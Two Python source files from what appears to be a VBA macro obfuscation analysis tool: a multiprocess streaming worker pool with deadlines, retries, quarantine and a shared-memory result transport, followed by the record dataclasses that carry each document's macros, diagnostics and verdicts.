    """One completed stream entry: the record plus cache bookkeeping hints."""

    key: object
    record: DocumentRecord
    #: the record was computed by a worker this stream (cache-worthy)
    computed: bool
    #: the record is a copy of an identical in-flight document (a cache hit
    #: coalesced inside the window rather than served from the parent cache)
    coalesced: bool


class _Task:
    """One dispatched document plus its retry state and coalesced twins."""

    __slots__ = (
        "key",
        "source_id",
        "data",
        "digest",
        "attempt",
        "followers",
        "deadline",
    )

    def __init__(
        self,
        key,
        source_id: str,
        data: bytes,
        digest: str,
        deadline: float | None = None,
    ) -> None:
        self.key = key
        self.source_id = source_id
        self.data = data
        self.digest = digest
        self.attempt = 0
        self.followers: list[tuple[object, str]] = []
        #: absolute ``time.monotonic()`` request deadline, or None
        self.deadline = deadline


def deadline_expired_record(source_id: str, digest: str) -> DocumentRecord:
    """A degraded record for a task whose deadline expired before dispatch."""
    record = DocumentRecord(source_id=source_id, sha256=digest)
    record.degrade(
        "deadline",
        "request deadline expired before dispatch; document was not analyzed",
    )
    return record


def deadline_limited(record: DocumentRecord) -> bool:
    """True when ``record`` was shaped by a per-request deadline.

    Such records must never enter the shared content cache: the same
    document under a patient caller could analyze fully.
    """
    return any(diag.stage == "deadline" for diag in record.diagnostics)


class _Slot:
    """One worker seat: a single-process executor we can rebuild alone."""

    __slots__ = ("index", "executor", "pid", "unflushed", "shm_names")

    def __init__(self, index: int, executor: ProcessPoolExecutor) -> None:
        self.index = index
        self.executor = executor
        self.pid: int | None = None
        #: tasks completed since the worker last shipped telemetry
        self.unflushed = 0
        #: shared-memory segment names this slot's worker has handed us —
        #: the parent unlinks them if the worker dies without cleaning up
        self.shm_names: set[str] = set()


class StreamingPool:
    """Warm workers that survive across calls, fed one task at a time.

    The pool holds only a *weak* reference to its engine (the engine owns
    the pool; a strong back-reference would keep both alive forever) plus
    a pickled snapshot taken at construction for worker initializers —
    stage configuration is therefore frozen at pool spawn.
    """

    def __init__(
        self,
        engine,
        jobs: int,
        *,
        window: int | None = None,
        retry: RetryPolicy | None = None,
        mp_context: str | None = None,
        telemetry_every: int = DEFAULT_TELEMETRY_EVERY,
        warm_start: bool = True,
    ) -> None:
        self.jobs = max(1, int(jobs))
        self.window = (
            int(window)
            if window is not None and window > 0
            else max(8, _WINDOW_PER_JOB * self.jobs)
        )
        if self.window < self.jobs:
            # A window smaller than the pool would idle paid-for workers.
            self.window = self.jobs
        self.retry = retry if retry is not None else DEFAULT_RETRY
        self.telemetry_every = max(0, int(telemetry_every))
        self._engine_ref = weakref.ref(engine)
        self._metrics = engine.metrics
        self._engine_pickle = pickle.dumps(engine)
        self._context = (
            multiprocessing.get_context(mp_context) if mp_context else None
        )
        self._closed = False
        self._close_lock = threading.Lock()
        self._streaming = False
        self.worker_restarts = 0
        self.peak_in_flight = 0  # peak window occupancy (admitted - yielded)
        self.peak_dispatched = 0  # peak tasks simultaneously on workers
        self.tasks_completed = 0
        self._slots = [self._new_slot(index) for index in range(self.jobs)]
        if warm_start:
            self.warm_up(wait_ready=False)

    # -- worker lifecycle ----------------------------------------------

    def _new_slot(self, index: int) -> _Slot:
        executor = ProcessPoolExecutor(
            max_workers=1,
            mp_context=self._context,
            initializer=_stream_worker_init,
            initargs=(
                self._engine_pickle,
                self.telemetry_every if self._metrics.enabled else 0,
            ),
        )
        return _Slot(index, executor)

    def warm_up(self, *, wait_ready: bool = True) -> list[int | None]:
        """Force worker processes up (and their imports paid) *now*.

        With ``wait_ready`` the call blocks until every worker has run its
        initializer and returns their pids; without it the spawns proceed
        in the background while the caller does other work.
        """
        futures = []
        for slot in self._slots:
            try:
                futures.append((slot, slot.executor.submit(_stream_warm)))
            except BrokenProcessPool:
                self._restart_slot(slot)
        if not wait_ready:
            return [slot.pid for slot in self._slots]
        for slot, future in futures:
            try:
                slot.pid = future.result()
            except BrokenProcessPool:
                self._restart_slot(slot)
        return [slot.pid for slot in self._slots]

    def _restart_slot(self, slot: _Slot) -> None:
        """Replace one dead worker; every other slot stays warm."""
        metrics = self._metrics
        span = None
        if metrics.enabled:
            metrics.counter("resilience.pool_failures").inc()
            metrics.counter("stream.worker_restarts").inc()
            span = metrics.span("pool.recover").start()
        slot.executor.shutdown(wait=False, cancel_futures=True)
        self._unlink_segments(slot)  # the dead worker can't clean up
        slot.executor = self._new_slot(slot.index).executor
        slot.pid = None
        slot.unflushed = 0  # whatever the dead worker held is gone
        self.worker_restarts += 1
        if span is not None:
            span.finish(outcome="error")

    @staticmethod
    def _unlink_segments(slot: _Slot) -> None:
        """Destroy every segment this slot's worker ever handed over.

        Live workers unlink their own segments (atexit at the latest), so
        a missing name here just means the worker beat us to it.
        """
        for name in slot.shm_names:
            try:
                segment = shared_memory.SharedMemory(name=name)
            except (FileNotFoundError, OSError):
                continue
            _shm_unregister(segment)
            segment.close()
            try:
                segment.unlink()
            except FileNotFoundError:
                pass
        slot.shm_names.clear()

    def worker_pids(self) -> list[int | None]:
        """Last-known worker pid per slot (None before a slot's first task)."""
        return [slot.pid for slot in self._slots]

    def close(self) -> None:
        """Shut every worker down.  Idempotent; the pool is unusable after.

        Safe under concurrent callers: async shutdown closes from signal
        handlers and context managers simultaneously, so exactly one caller
        wins the flag under a lock and performs the teardown.
        """
        with self._close_lock:
            if self._closed:
                return
            self._closed = True
        for slot in self._slots:
            slot.executor.shutdown(wait=False, cancel_futures=True)
            self._unlink_segments(slot)

    def __enter__(self) -> "StreamingPool":
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        self.close()

    # -- the dispatch loop ---------------------------------------------

    def stream(
        self, entries: Iterable[tuple], *, ordered: bool = False
    ) -> Iterator[StreamResult]:
        """Drive tagged entries through the warm workers.

        ``entries`` is an iterable (consumed lazily, never materialized) of

        * ``("task", key, source_id, data, digest)`` — analyze ``data`` on
          a worker.  Entries sharing a ``digest`` while one is in flight
          are *coalesced*: analyzed once, the twins yielded as copies.  An
          optional sixth element is an absolute ``time.monotonic()``
          deadline: tasks still queued when it passes settle immediately
          as degraded deadline records (releasing their window slot), and
          dispatched tasks analyze under a budget clipped to the seconds
          remaining;
        * ``("ready", key, record)`` — a pre-completed record (a parent
          cache hit, a coercion error) that only needs ordering.

        Yields one :class:`StreamResult` per entry.  With ``ordered`` the
        results come back in entry order; otherwise in completion order.
        At most ``self.window`` entries are admitted beyond what has been
        yielded, which bounds the reorder buffer and the in-flight set
        alike.
        """
        self._begin_stream()
        engine = self._engine_ref()
        metrics = self._metrics
        source = iter(entries)
        exhausted = False
        waiting: deque[_Task] = deque()
        inflight: dict[Future, tuple[_Slot, _Task]] = {}
        idle: list[_Slot] = list(self._slots)
        primaries: dict[str, _Task] = {}  # digest -> in-flight/waiting task
        buffer: dict[object, StreamResult] = {}
        expected: deque = deque()  # admitted keys in order (ordered mode)
        admitted = 0
        yielded = 0
        completed = 0
        started_at = time.perf_counter()

        in_flight_gauge = metrics.gauge("stream.in_flight")
        depth_gauge = metrics.gauge("stream.queue_depth")

        try:
            while True:
                # 1. Admit from the feed while the window has room.
                while not exhausted and admitted - yielded < self.window:
                    try:
                        entry = next(source)
                    except StopIteration:
                        exhausted = True
                        break
                    admitted += 1
                    self._admit_entry(entry, ordered, expected, buffer, primaries, waiting)

                # 2. Dispatch while workers are free (expired tasks settle
                #    in place instead of occupying a worker).
                while waiting and idle:
                    task = waiting.popleft()
                    if task.deadline is not None and time.monotonic() >= task.deadline:
                        self._expire_task(task, buffer, primaries)
                        continue
                    slot = idle.pop()
                    inflight[self._submit(slot, task)] = (slot, task)

                occupancy = admitted - yielded
                if occupancy > self.peak_in_flight:
                    self.peak_in_flight = occupancy
                    in_flight_gauge.set(occupancy)
                if len(inflight) > self.peak_dispatched:
                    self.peak_dispatched = len(inflight)
                if len(buffer) > depth_gauge.value:
                    depth_gauge.set(len(buffer))

                # 3. Yield whatever the contract allows.
                progressed = False
                if ordered:
                    while expected and expected[0] in buffer:
                        yield buffer.pop(expected.popleft())
                        yielded += 1
                        progressed = True
                else:
                    while buffer:
                        key, result = next(iter(buffer.items()))
                        del buffer[key]
                        yield result
                        yielded += 1
                        progressed = True
                if progressed:
                    continue  # freed window slots: admit before blocking

                # 4. Done?
                if exhausted and not inflight and not waiting:
                    break

                # 5. Block until any worker finishes, then settle results.
                done, _ = wait(inflight, return_when=FIRST_COMPLETED)
                for future in done:
                    slot, task = inflight.pop(future)
                    step, delay = self._settle_future(
                        engine, slot, task, future, idle, waiting, buffer, primaries
                    )
                    completed += step
                    if delay is not None:
                        # Backoff before the retry runs; tests monkeypatch
                        # recovery._sleep.
                        _recovery._sleep(delay)
                # Sliding windows / drift monitors advance from the settle
                # loop too, not only on telemetry flushes — both time-gate
                # internally, so this is a few attribute checks per wake-up.
                if engine is not None:
                    engine._observability_tick()
        finally:
            self._streaming = False
            if engine is not None and metrics.enabled:
                self._flush_telemetry(engine)
                elapsed = time.perf_counter() - started_at
                if completed and elapsed > 0.0:
                    metrics.gauge("stream.tasks_per_sec").set(
                        round(completed / elapsed, 3)
                    )

    async def astream(
        self, entries, *, ordered: bool = False
    ) -> AsyncIterator[StreamResult]:
        """:meth:`stream`, but friendly to a running event loop.

        Accepts a sync or async iterable of the same tagged entries and
        preserves every contract — ordered/completion-order yields, the
        admission window, coalescing, per-task blame, quarantine, and
        telemetry merge — while never blocking the loop: worker futures
        are awaited through :func:`asyncio.wrap_future`, retry backoff
        runs in the default executor, and admission pulls from the feed
        *concurrently* with settling (a live server feed may be idle while
        tasks are in flight, so blocking on the next entry would deadlock
        a request multiplexer).
        """
        self._begin_stream()
        engine = self._engine_ref()
        metrics = self._metrics
        loop = asyncio.get_running_loop()
        source = _aiter_entries(entries)
        exhausted = False
        fetch: asyncio.Task | None = None  # the one outstanding feed pull
        waiting: deque[_Task] = deque()
        inflight: dict[Future, tuple[_Slot, _Task]] = {}
        bridges: dict[asyncio.Future, Future] = {}  # wrapped -> worker future
        idle: list[_Slot] = list(self._slots)
        primaries: dict[str, _Task] = {}
        buffer: dict[object, StreamResult] = {}
        expected: deque = deque()
        admitted = 0
        yielded = 0
        completed = 0
        started_at = time.perf_counter()

        in_flight_gauge = metrics.gauge("stream.in_flight")
        depth_gauge = metrics.gauge("stream.queue_depth")

        try:
            while True:
                # 1. Keep one feed pull outstanding while the window has room.
                if not exhausted and fetch is None and admitted - yielded < self.window:
                    fetch = asyncio.ensure_future(anext(source))

                # 2. Dispatch while workers are free.
                now = time.monotonic()
                while waiting and idle:
                    task = waiting.popleft()
                    if task.deadline is not None and now >= task.deadline:
                        self._expire_task(task, buffer, primaries)
                        continue
                    slot = idle.pop()
                    future = self._submit(slot, task)
                    inflight[future] = (slot, task)
                    bridges[asyncio.wrap_future(future, loop=loop)] = future

                occupancy = admitted - yielded
                if occupancy > self.peak_in_flight:
                    self.peak_in_flight = occupancy
                    in_flight_gauge.set(occupancy)
                if len(inflight) > self.peak_dispatched:
                    self.peak_dispatched = len(inflight)
                if len(buffer) > depth_gauge.value:
                    depth_gauge.set(len(buffer))

                # 3. Yield whatever the contract allows.
                progressed = False
                if ordered:
                    while expected and expected[0] in buffer:
                        yield buffer.pop(expected.popleft())
                        yielded += 1
                        progressed = True
                else:
                    while buffer:
                        key, result = next(iter(buffer.items()))
                        del buffer[key]
                        yield result
                        yielded += 1
                        progressed = True
                if progressed:
                    continue  # freed window slots: admit before parking

                # 4. Done?
                if exhausted and fetch is None and not inflight and not waiting:
                    break

                # 5. Park until the feed produces, any worker finishes, or
                #    the nearest queued deadline expires.
                waits: set = set(bridges)
                if fetch is not None:
                    waits.add(fetch)
                timeout = self._nearest_deadline(waiting)
                if not waits:
                    # Only queued-but-undispatchable tasks remain (every
                    # deadline task waiting on a slot): sleep to its expiry.
                    await asyncio.sleep(timeout if timeout is not None else 0.01)
                    continue
                done, _ = await asyncio.wait(
                    waits, timeout=timeout, return_when=asyncio.FIRST_COMPLETED
                )
                if fetch is not None and fetch in done:
                    done.discard(fetch)
                    try:
                        entry = fetch.result()
                    except StopAsyncIteration:
                        exhausted = True
                    else:
                        admitted += 1
                        self._admit_entry(
                            entry, ordered, expected, buffer, primaries, waiting
                        )
                    fetch = None
                for bridge in done:
                    if not bridge.cancelled():
                        bridge.exception()  # mark retrieved; settled below
                    future = bridges.pop(bridge)
                    slot, task = inflight.pop(future)
                    step, delay = self._settle_future(
                        engine, slot, task, future, idle, waiting, buffer, primaries
                    )
                    completed += step
                    if delay is not None:
                        # Same monkeypatchable backoff as the sync path,
                        # parked on a thread so the loop stays responsive.
                        await loop.run_in_executor(None, _recovery._sleep, delay)
                if engine is not None:
                    engine._observability_tick()
        finally:
            self._streaming = False
            if fetch is not None:
                fetch.cancel()
            for bridge in bridges:
                bridge.cancel()  # drop wrappers; worker tasks run to completion
            if engine is not None and metrics.enabled:
                try:
                    await loop.run_in_executor(None, self._flush_telemetry, engine)
                except RuntimeError:  # loop already shutting down its executor
                    pass
                elapsed = time.perf_counter() - started_at
                if completed and elapsed > 0.0:
                    metrics.gauge("stream.tasks_per_sec").set(
                        round(completed / elapsed, 3)
                    )

    # -- pieces shared by the sync and async dispatch loops ------------

    def _begin_stream(self) -> None:
        if self._closed:
            raise RuntimeError("cannot stream on a closed StreamingPool")
        if self._streaming:
            raise RuntimeError(
                "StreamingPool is already streaming; one dispatch loop per "
                "pool — multiplex requests onto it instead"
            )
        self._streaming = True

    def _admit_entry(
        self,
        entry: tuple,
        ordered: bool,
        expected: deque,
        buffer: dict,
        primaries: dict,
        waiting: deque,
    ) -> None:
        """Fold one tagged feed entry into the dispatch state."""
        kind = entry[0]
        if ordered:
            expected.append(entry[1])
        if kind == "ready":
            _, key, record = entry
            buffer[key] = StreamResult(key, record, False, False)
            return
        _, key, source_id, data, digest, *rest = entry
        deadline = rest[0] if rest else None
        primary = primaries.get(digest)
        if primary is not None:
            primary.followers.append((key, source_id))
            return
        task = _Task(key, source_id, data, digest, deadline)
        primaries[digest] = task
        waiting.append(task)

    def _expire_task(self, task: _Task, buffer: dict, primaries: dict) -> None:
        """Settle a task whose deadline passed while it queued for a slot.

        The task (and its coalesced followers) yield degraded deadline
        records, releasing their window slots — expired requests must not
        leak admission capacity.  Nothing is cached: ``computed`` stays
        False and the record carries the ``deadline`` marker.
        """
        from repro.engine.core import AnalysisEngine

        metrics = self._metrics
        if metrics.enabled:
            metrics.counter("stream.deadline_expired").inc(1 + len(task.followers))
        record = deadline_expired_record(task.source_id, task.digest)
        primaries.pop(task.digest, None)
        buffer[task.key] = StreamResult(task.key, record, False, False)
        for key, source_id in task.followers:
            buffer[key] = StreamResult(
                key, AnalysisEngine._cached_copy(record, source_id), False, False
            )

    @staticmethod
    def _nearest_deadline(waiting: deque) -> float | None:
        """Seconds until the earliest queued deadline, or None."""
        nearest = None
        for task in waiting:
            if task.deadline is not None and (
                nearest is None or task.deadline < nearest
            ):
                nearest = task.deadline
        if nearest is None:
            return None
        return max(0.0, nearest - time.monotonic())

    def _settle_future(
        self,
        engine,
        slot: _Slot,
        task: _Task,
        future: Future,
        idle: list,
        waiting: deque,
        buffer: dict,
        primaries: dict,
    ) -> tuple[int, float | None]:
        """Settle one completed worker future.

        Returns ``(completed_delta, retry_delay)``.  A non-None delay
        means the task was requeued for retry and the caller owes it a
        backoff sleep (blocking in the sync loop, off-loop in async).
        """
        metrics = self._metrics
        try:
            payload = future.result()
        except BrokenProcessPool:
            # One task per worker: the dead pool indicts exactly this
            # task.  Rebuild only this slot.
            self._restart_slot(slot)
            idle.append(slot)
            error = BrokenProcessPool(
                "worker died mid-task; per-task dispatch "
                "attributes the failure to this document"
            )
            return 0, self._settle_failure(task, error, waiting, buffer, primaries)
        except Exception as error:
            # Attributable failure (e.g. an unpicklable result): the
            # worker survived, only the task pays.
            idle.append(slot)
            return 0, self._settle_failure(task, error, waiting, buffer, primaries)
        idle.append(slot)
        raw, pid, telemetry = payload
        slot.pid = pid
        slot.unflushed += 1
        if telemetry is not None:
            slot.unflushed = 0
            if engine is not None:
                engine._merge_worker_telemetry(telemetry)
        try:
            record = (
                self._materialize(slot, raw) if isinstance(raw, _ShmResult) else raw
            )
        except Exception as error:
            # A corrupt/vanished segment indicts only this task; the
            # worker recomputes it on retry.
            return 0, self._settle_failure(task, error, waiting, buffer, primaries)
        self.tasks_completed += 1
        if metrics.enabled:
            metrics.counter("stream.tasks").inc()
        self._settle_success(task, record, buffer, primaries)
        return 1, None

    def _materialize(self, slot: _Slot, descriptor: _ShmResult) -> DocumentRecord:
        """Decode one record out of a worker's shared-memory segment.

        Called during settle, while the slot is out of the idle list — the
        worker cannot start another task (and so cannot reclaim or rewrite
        this segment) until we return.  The generation/length header and
        the BLAKE2 payload digest guard against ever decoding a stale or
        torn write; any mismatch raises, which routes the task through the
        ordinary retry path.
        """
        segment = shared_memory.SharedMemory(name=descriptor.name)
        _shm_unregister(segment)
        slot.shm_names.add(descriptor.name)
        try:
            generation, length = _SHM_HEADER.unpack_from(segment.buf, 0)
            if (
                generation != descriptor.generation
                or length != descriptor.length
            ):
                raise RuntimeError(
                    f"shared-memory segment {descriptor.name} header "
                    f"(generation {generation}, length {length}) does not "
                    f"match its descriptor (generation "
                    f"{descriptor.generation}, length {descriptor.length})"
                )
            payload = segment.buf[_SHM_PAYLOAD_OFFSET : _SHM_PAYLOAD_OFFSET + length]
            try:
                digest = hashlib.blake2b(
                    payload, digest_size=_SHM_DIGEST_SIZE
                ).digest()
                if digest != descriptor.digest:
                    raise RuntimeError(
                        f"shared-memory segment {descriptor.name} payload "
                        "failed its digest check"
                    )
                record = pickle.loads(payload)
            finally:
                payload.release()
            metrics = self._metrics
            if metrics.enabled:
                metrics.counter("stream.shm_results").inc()
                metrics.counter("stream.shm_bytes").inc(length)
                metrics.gauge("stream.shm_segment_bytes").set(segment.size)
            return record
        finally:
            segment.close()

    def _submit(self, slot: _Slot, task: _Task) -> Future:
        """Submit one task to one slot, reviving the slot if it died idle."""
        remaining = None
        if task.deadline is not None:
            remaining = max(0.001, task.deadline - time.monotonic())
        for attempt in (0, 1):
            try:
                return slot.executor.submit(
                    _stream_task,
                    task.key,
                    task.source_id,
                    task.data,
                    task.digest,
                    remaining,
                )
            except (BrokenProcessPool, RuntimeError):
                if attempt:
                    raise
                self._restart_slot(slot)
        raise AssertionError("unreachable")

    def _settle_success(
        self,
        task: _Task,
        record: DocumentRecord,
        buffer: dict,
        primaries: dict,
    ) -> None:
        from repro.engine.core import AnalysisEngine

        primaries.pop(task.digest, None)
        buffer[task.key] = StreamResult(task.key, record, True, False)
        for key, source_id in task.followers:
            buffer[key] = StreamResult(
                key, AnalysisEngine._cached_copy(record, source_id), False, True
            )

    def _settle_failure(
        self,
        task: _Task,
        error: BaseException,
        waiting: deque,
        buffer: dict,
        primaries: dict,
    ) -> float | None:
        """Per-task blame: retry with capped backoff, then quarantine.

        Returns the backoff delay the caller owes before the retry runs
        (the task is already requeued), or None when the task was
        quarantined instead.
        """
        metrics = self._metrics
        attempts = task.attempt + 1
        if attempts < self.retry.max_attempts:
            if metrics.enabled:
                metrics.counter("resilience.retries").inc()
            delay = self.retry.backoff(task.attempt)
            task.attempt = attempts
            waiting.appendleft(task)  # retries outrank fresh admissions
            return delay
        reason = (
            f"{type(error).__name__}: {error}"
            if str(error)
            else type(error).__name__
        )
        record = quarantine_record(
            task.source_id, task.digest, reason, attempts=attempts, stage="pool"
        )
        if metrics.enabled:
            metrics.counter("resilience.quarantined").inc()
            metrics.span("quarantine", doc=task.digest).start().finish(
                outcome="error"
            )
        self._settle_success(task, record, buffer, primaries)
        return None

    def _flush_telemetry(self, engine) -> None:
        """Collect what the workers recorded since their last flush."""
        futures = []
        for slot in self._slots:
            if slot.unflushed <= 0:
                continue
            try:
                futures.append((slot, slot.executor.submit(_stream_flush)))
            except (BrokenProcessPool, RuntimeError):
                continue  # the worker (and its unsent telemetry) is gone
        for slot, future in futures:
            try:
                telemetry = future.result(timeout=60)
            except Exception:
                continue
            slot.unflushed = 0
            engine._merge_worker_telemetry(telemetry)


def _aiter_entries(entries) -> AsyncIterator[tuple]:
    """An async iterator over ``entries``, whichever flavor it already is."""
    if hasattr(entries, "__aiter__"):
        return entries.__aiter__()
    iterator = iter(entries)

    async def adapt() -> AsyncIterator[tuple]:
        for item in iterator:
            yield item

    return adapt()


# ----------------------------------------------------------------------
# Worker-side entry points.  The engine is unpickled exactly once per
# worker process (pre-importing numpy and the analysis stack, pre-building
# the stage list); tasks then carry only (key, source_id, data, digest).

_WORKER_STATE: dict = {}


def _stream_worker_init(engine_pickle: bytes, telemetry_every: int) -> None:
    engine = pickle.loads(engine_pickle)
    _WORKER_STATE["engine"] = engine
    _WORKER_STATE["telemetry_every"] = telemetry_every
    _WORKER_STATE["since_flush"] = 0
    threshold = getattr(engine, "shm_threshold", None)
    if threshold is None:
        threshold = DEFAULT_SHM_THRESHOLD
    elif threshold <= 0:
        threshold = None  # shm transport disabled for this engine
    _WORKER_STATE["shm_threshold"] = threshold
    _WORKER_STATE["shm_free"] = []  # segments ready for reuse
    _WORKER_STATE["shm_busy"] = []  # handed to the parent, reclaim next task
    _WORKER_STATE["shm_generation"] = 0
    atexit.register(_shm_worker_cleanup)


def _shm_worker_cleanup() -> None:
    """Worker exit: destroy every segment this process still owns."""
    for segment in _WORKER_STATE.get("shm_free", []) + _WORKER_STATE.get(
        "shm_busy", []
    ):
        try:
            segment.close()
            segment.unlink()
        except Exception:
            pass  # the parent unlinks leftovers on slot teardown


def _shm_reclaim() -> None:
    """Called at task start: segments handed over with the *previous*
    result are consumable again — the parent settled that result before
    dispatching this task to this worker (one task in flight per slot)."""
    state = _WORKER_STATE
    busy = state["shm_busy"]
    if not busy:
        return
    free = state["shm_free"]
    free.extend(busy)
    busy.clear()
    while len(free) > _SHM_MAX_FREE:
        segment = free.pop(0)
        segment.close()
        try:
            segment.unlink()
        except FileNotFoundError:
            pass


def _shm_export(payload: bytes) -> _ShmResult | None:
    """Park one pickled record in a (pooled) segment; None = fall back."""
    state = _WORKER_STATE
    needed = _SHM_PAYLOAD_OFFSET + len(payload)
    free = state["shm_free"]
    segment = None
    for index, candidate in enumerate(free):
        if candidate.size >= needed:
            segment = free.pop(index)
            break
    if segment is None:
        try:
            segment = shared_memory.SharedMemory(
                create=True, size=max(needed, _SHM_MIN_SEGMENT)
            )
        except OSError:  # /dev/shm exhausted or unavailable
            engine = state["engine"]
            if engine.metrics.enabled:
                engine.metrics.counter("stream.shm_fallback").inc()
            return None
        _shm_unregister(segment)
    state["shm_generation"] += 1
    generation = state["shm_generation"]
    digest = hashlib.blake2b(payload, digest_size=_SHM_DIGEST_SIZE).digest()
    _SHM_HEADER.pack_into(segment.buf, 0, generation, len(payload))
    segment.buf[_SHM_HEADER.size : _SHM_PAYLOAD_OFFSET] = digest
    segment.buf[_SHM_PAYLOAD_OFFSET : _SHM_PAYLOAD_OFFSET + len(payload)] = payload
    state["shm_busy"].append(segment)
    return _ShmResult(segment.name, generation, len(payload), digest)


def _shm_maybe_export(record: DocumentRecord):
    """The record itself, or a :class:`_ShmResult` descriptor for it.

    A cheap lower-bound size screen (macro sources + document variables)
    skips the extra pickle pass for the typical small record; only
    plausibly-large records pay ``pickle.dumps`` to learn their exact
    size.
    """
    threshold = _WORKER_STATE["shm_threshold"]
    if threshold is None:
        return record
    approx = sum(len(macro.source) for macro in record.macros) + sum(
        len(key) + len(value)
        for key, value in record.document_variables.items()
    )
    if approx < threshold // 4:
        return record
    payload = pickle.dumps(record, protocol=pickle.HIGHEST_PROTOCOL)
    if len(payload) < threshold:
        return record
    descriptor = _shm_export(payload)
    return descriptor if descriptor is not None else record


def _stream_warm() -> int:
    """A no-op task that forces the worker (and its imports) up."""
    return os.getpid()


def _telemetry_snapshot(engine) -> dict:
    """The worker → parent telemetry delta; resets the worker's registry."""
    snapshot = {
        "metrics": engine.metrics.to_dict() if engine.metrics.enabled else None,
        "cache": engine.cache_info(),
    }
    engine.metrics = engine.metrics.spawn()
    engine.cache_hits = 0
    engine.cache_misses = 0
    engine.cache_evictions = 0
    feature_cache = getattr(engine, "_feature_cache", None)
    if feature_cache is not None:
        feature_cache.hits = 0
        feature_cache.misses = 0
        feature_cache.evictions = 0
    return snapshot


def _stream_task(
    key,
    source_id: str,
    data: bytes,
    digest: str,
    deadline_s: float | None = None,
):
    """One document through the warm engine; telemetry rides along
    every ``telemetry_every`` tasks.

    ``deadline_s`` is the request deadline remaining at dispatch: the
    document analyzes under the engine budget clipped to it (which also
    arms the per-stage watchdog), and a record it degrades is marked with
    a ``deadline`` diagnostic so the parent never caches it.
    """
    engine = _WORKER_STATE["engine"]
    _shm_reclaim()
    if deadline_s is None:
        record = engine._process(source_id, data, digest)
    else:
        saved = engine.budget
        engine.budget = clip_budget(saved, deadline_s)
        try:
            record = engine._process(source_id, data, digest)
        finally:
            engine.budget = saved
        if record.degraded:
            record.diag(
                "deadline",
                "info",
                f"analyzed under a {deadline_s:.3f}s request deadline",
            )
    telemetry = None
    every = _WORKER_STATE["telemetry_every"]
    if every:
        _WORKER_STATE["since_flush"] += 1
        if _WORKER_STATE["since_flush"] >= every:
            _WORKER_STATE["since_flush"] = 0
            telemetry = _telemetry_snapshot(engine)
    return _shm_maybe_export(record), os.getpid(), telemetry


def _stream_flush() -> dict:
    """Explicit end-of-stream telemetry flush."""
    _WORKER_STATE["since_flush"] = 0
    return _telemetry_snapshot(_WORKER_STATE["engine"])
