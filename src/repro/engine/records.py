"""The context objects threaded through the staged analysis pipeline.

One :class:`DocumentRecord` accompanies each input document from raw bytes
to verdict.  Stages never raise on bad input — every failure becomes a
:class:`Diagnostic` on the record, so a batch run is total: N inputs in,
N records out, errors carried in-band.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

import numpy as np

if TYPE_CHECKING:  # pragma: no cover
    from repro.lint.findings import Finding
    from repro.sa.records import StringRecovery
    from repro.vba.analyzer import AnalysisSummary, MacroAnalysis

#: Diagnostic severities, mildest first.
LEVELS = ("info", "warning", "error")

#: Version of the JSON record shape (``DocumentRecord.to_dict``).  Bumped
#: to 2 when recovered-string fields (``recovery``, ``recovered_strings``)
#: joined the macro record; ``repro stats`` and downstream aggregators key
#: on this instead of sniffing fields.
ENGINE_SCHEMA_VERSION = 2


def sha256_hex(data: bytes | str) -> str:
    if isinstance(data, str):
        data = data.encode("utf-8", "replace")
    return hashlib.sha256(data).hexdigest()


@dataclass(frozen=True, slots=True)
class Diagnostic:
    """One per-stage observation: provenance for the final record."""

    stage: str
    level: str
    message: str

    def to_dict(self) -> dict[str, str]:
        return {"stage": self.stage, "level": self.level, "message": self.message}


@dataclass(slots=True)
class MacroRecord:
    """One extracted VBA module flowing through the macro-level stages."""

    module_name: str
    source: str
    sha256: str = ""
    module_type: str = "standard"
    #: "short" | "analysis-error" | "budget" | None (kept)
    filtered: str | None = None
    analysis: "MacroAnalysis | None" = None
    #: array-backed digest the batch feature kernels ran over (kept only
    #: under ``keep_analysis``, like the analysis itself)
    summary: "AnalysisSummary | None" = field(default=None, compare=False)
    #: normalized-source digest keying the feature-row cache
    feature_digest: str | None = field(default=None, compare=False)
    features: dict[str, np.ndarray] = field(default_factory=dict)
    findings: "list[Finding]" = field(default_factory=list)
    #: static-analysis result from the RecoverStage (None when not run)
    recovery: "StringRecovery | None" = field(default=None, compare=False)
    #: the recovered string values, kept flat for JSON/explain output
    recovered_strings: list[str] = field(default_factory=list)
    score: float | None = None
    verdict: str | None = None  # "obfuscated" | "normal"

    def __post_init__(self) -> None:
        if not self.sha256:
            self.sha256 = sha256_hex(self.source)

    @property
    def kept(self) -> bool:
        return self.filtered is None

    @property
    def is_obfuscated(self) -> bool:
        return self.verdict == "obfuscated"

    def to_dict(self) -> dict[str, Any]:
        return {
            "name": self.module_name,
            "type": self.module_type,
            "sha256": self.sha256,
            "chars": len(self.source),
            "filtered": self.filtered,
            "score": self.score,
            "verdict": self.verdict,
            "findings": [finding.to_dict() for finding in self.findings],
            "recovered_strings": list(self.recovered_strings),
            "recovery": self.recovery.to_dict()
            if self.recovery is not None
            else None,
        }


@dataclass(slots=True)
class DocumentRecord:
    """Everything the pipeline learned about one input document."""

    source_id: str
    data: bytes | None = None  # consumed by ExtractStage, then dropped
    sha256: str | None = None
    container: str | None = None
    macros: list[MacroRecord] = field(default_factory=list)
    document_variables: dict[str, str] = field(default_factory=dict)
    diagnostics: list[Diagnostic] = field(default_factory=list)
    #: per-stage wall-clock seconds, filled when the engine runs with a
    #: live metrics registry (empty when telemetry is off or cache-served)
    timings: dict[str, float] = field(default_factory=dict)
    #: True when a stage crashed, a budget tripped, or the document was
    #: quarantined — the record is partial but still delivered
    degraded: bool = False
    #: stage names that ran to completion on this record, in order
    completed_stages: list[str] = field(default_factory=list)
    #: set on quarantine records: {"reason", "attempts", "stage", "retriable"}
    quarantine: dict[str, Any] | None = None

    def diag(self, stage: str, level: str, message: str) -> None:
        if level not in LEVELS:
            raise ValueError(f"unknown diagnostic level {level!r}")
        self.diagnostics.append(Diagnostic(stage, level, message))

    @property
    def ok(self) -> bool:
        return not any(d.level == "error" for d in self.diagnostics)

    @property
    def error(self) -> str | None:
        for diagnostic in self.diagnostics:
            if diagnostic.level == "error":
                return f"{diagnostic.stage}: {diagnostic.message}"
        return None

    @property
    def kept_macros(self) -> list[MacroRecord]:
        return [macro for macro in self.macros if macro.kept]

    @property
    def sources(self) -> list[str]:
        return [macro.source for macro in self.macros]

    @property
    def any_obfuscated(self) -> bool:
        return any(macro.is_obfuscated for macro in self.macros)

    def to_dict(self) -> dict[str, Any]:
        """A JSON-serializable per-file record (the ``--format json`` shape)."""
        return {
            "schema_version": ENGINE_SCHEMA_VERSION,
            "path": self.source_id,
            "sha256": self.sha256,
